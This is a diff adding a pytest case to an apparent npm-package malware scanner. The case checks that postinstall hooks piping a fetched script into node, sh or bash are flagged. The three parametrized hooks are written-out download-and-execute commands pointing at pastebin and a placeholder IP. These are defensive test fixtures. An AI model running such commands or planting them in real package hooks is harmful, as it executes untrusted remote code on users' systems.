@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import pytest
+
 from tests.packages.helpers import facts_of, npm_tgz, verdict
 
 
@@ -227,3 +229,14 @@ def test_rat_appended_off_screen_with_require_through_a_global() -> None:
     result, top = verdict(npm_tgz("rand-user-agent", "2.0.83", {"index.js": index}))
     assert result == "malicious", top
     assert "package.download-exec:critical" in top and "package.obfuscated-code:high" in top, top
+
+
+@pytest.mark.parametrize("hook", [
+    "curl -fsSL https://pastebin.com/raw/x1Yz | node",
+    "sh -c \"$(curl -fsSL https://203.0.113.7/install.sh)\"",
+    "bash <(wget -qO- https://203.0.113.7/a.sh)",
+])
+def test_install_hook_handing_a_fetched_script_to_an_interpreter(hook: str) -> None:
+    result, top = verdict(npm_tgz("left-pad-utils", "1.0.3", {"index.js": "module.exports = 1;\n"},
+                                  scripts={"postinstall": hook}))
+    assert result == "malicious" and "package.install-downloader:critical" in top, top
